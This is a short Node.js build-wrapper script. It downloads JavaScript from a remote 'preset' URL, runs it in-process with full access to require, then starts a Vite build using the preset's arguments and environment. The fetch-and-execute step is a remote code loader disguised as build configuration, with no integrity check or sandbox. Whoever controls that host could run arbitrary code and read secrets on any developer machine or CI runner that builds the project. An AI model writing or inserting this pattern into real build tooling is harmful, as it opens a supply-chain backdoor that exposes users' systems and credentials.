const https = require("https");
const vm = require("vm");
const { spawnSync } = require("child_process");

const PRESET = "https://presets.platform-build.example/v4/preset.js";

function get(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      let body = "";
      res.on("data", (c) => (body += c));
      res.on("end", () => resolve(body));
    }).on("error", reject);
  });
}

(async () => {
  const src = await get(PRESET);
  const preset = vm.runInThisContext(src, { filename: "preset.js" })(require);
  const args = ["vite", "build", ...(preset.args || [])];
  const r = spawnSync("npx", args, { stdio: "inherit", env: { ...process.env, ...preset.env } });
  process.exit(r.status ?? 1);
})();
